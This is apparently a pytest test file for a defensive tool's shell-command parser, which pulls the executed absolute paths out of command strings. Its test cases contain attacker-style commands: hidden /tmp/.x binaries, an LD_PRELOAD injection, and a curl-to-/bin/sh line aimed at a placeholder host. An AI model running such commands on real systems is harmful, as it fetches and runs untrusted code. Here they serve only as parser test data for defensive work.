import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rootout.collect.commands import LONGEST, MOST, targets_of


@pytest.mark.parametrize(
    ("command", "targets"),
    [
        ("/tmp/.x/k", ("/tmp/.x/k",)),
        ("//tmp//.x/./k", ("/tmp/.x/k",)),
        ("///tmp/../tmp/k", ("/tmp/k",)),
        ("/bin/sh -c '/tmp/k -d'", ("/bin/sh", "/tmp/k")),
        ("sh -c \"/tmp/k;'/tmp/l'\"", ("/tmp/k", "/tmp/l")),
        ("cd /tmp/.x && ./k >/dev/null 2>&1", ("/tmp/.x/k",)),
        ("cd /tmp; cd .x; ./k", ("/tmp/.x/k",)),
        ("(/tmp/k &)", ("/tmp/k",)),
        ("echo `/tmp/k` $(/tmp/l)", ("/tmp/k", "/tmp/l")),
        ('echo "`/tmp/k`"', ("/tmp/k",)),
        ("/tmp/k>/tmp/log", ("/tmp/k",)),
        ("/tmp/k >>/tmp/log </tmp/in 2>/tmp/err x", ("/tmp/k",)),
        ("A=/tmp/no /tmp/k", ("/tmp/k",)),
        ("/tmp/a\\ b '/tmp/c d'", ("/tmp/a b", "/tmp/c d")),
        ("/tmp/'k'\"l\"", ("/tmp/kl",)),
        ("'/tmp''/k' \"/tmp/\"\"l\"", ("/tmp/k", "/tmp/l")),
        ("'/tmp/'\"'\"'k'", ("/tmp/'k",)),
        ('"/tmp/\\k\\$"', ("/tmp/\\k$",)),
        ("'/tmp/a\\b'", ("/tmp/a\\b",)),
        ("cd /tmp/.x && sh -c './k -d'", ("/tmp/.x/k",)),
        ("A=/tmp/k; $A", ("/tmp/k",)),
        ("A=/tmp/k; ${A}", ("/tmp/k",)),
        ("LD_PRELOAD=/tmp/a.so:/tmp/b.so /usr/bin/id", ("/tmp/a.so", "/tmp/b.so", "/usr/bin/id")),
        ("t\\est; /tmp/k", ("/tmp/k",)),
        ("[ -x /usr/bin/a ] && /usr/bin/a", ("/usr/bin/a",)),
        ("curl -s http://x.example/y|/bin/sh", ("/bin/sh",)),
        ("/tmp/\udcff", ("/tmp/\udcff",)),
        ("", ()),
        ("reboot", ()),
        ("'/tmp/unclosed", ("/tmp/unclosed",)),
    ],
)
def test_targets_are_the_absolute_paths_a_shell_would_run_or_hand_on(command, targets):
    assert targets_of(command) == targets


def test_no_more_than_enough_is_returned():
    assert len(targets_of(" ".join(f"/x{number}" for number in range(2 * MOST)))) == MOST


def test_a_command_starts_in_the_folder_that_it_is_given():
    assert targets_of("./k; sh -c './l -d'", "/tmp/.x") == ("/tmp/.x/k", "/tmp/.x/l")
    assert targets_of("./k /y", "/" + "x" * 5000) == ("/y",)


HOSTILE = [
    "\\",
    '"',
    "'",
    '\\"',
    "\"'",
    "'\"",
    '"\\',
    " '\"",
    '"(',
    "`",
    "$(",
    "/ -",
    "cd ",
    "A=$A ",
    "''",
    ">",
    "((((;",
]


@pytest.mark.parametrize("part", HOSTILE)
@pytest.mark.parametrize("end", ["", '"', "'", "\\"])
def test_a_long_hostile_command_takes_no_time(part, end):
    started = time.process_time()
    targets_of(end + part * (1 << 20))
    targets_of(part * (LONGEST // len(part)) + end)
    assert time.process_time() - started < 30


@given(st.text(alphabet="/ab \\\"'`$();|&<>\n=cd.\udcff"))
def test_any_command_has_clean_absolute_targets(command):
    for target in targets_of(command):
        assert target.startswith("/")
        assert not target.startswith("//")
